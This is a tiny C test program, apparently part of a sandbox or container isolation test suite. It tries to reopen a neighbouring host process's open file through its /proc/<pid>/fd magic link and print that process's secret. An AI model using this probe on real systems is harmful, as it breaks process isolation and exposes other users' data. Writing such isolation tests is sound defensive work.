/* technique: opens an open file of a process of the host again, by its magic link
 * source: proc_pid_fd(5)
 * success: the neighbour's secret on the output
 * control: outside
 * beside: neighbour
 */
#include "power.h"

int main(void)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/%d/fd/%d", neighbour(), neighbours_file());
	return show_path(path);
}
